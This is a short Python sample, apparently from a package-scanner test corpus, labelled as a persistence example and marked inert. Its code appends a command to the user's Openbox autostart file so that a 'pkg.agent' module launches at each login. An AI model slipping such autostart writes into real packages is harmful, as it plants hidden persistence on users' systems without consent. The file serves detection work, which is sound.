# pkgguard corpus 629 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import sys

script = os.path.expanduser("~/.config/openbox/autostart")
os.makedirs(os.path.dirname(script), exist_ok=True)
with open(script, "a") as fh:
    fh.write(f"\n{sys.executable} -m pkg.agent &\n")
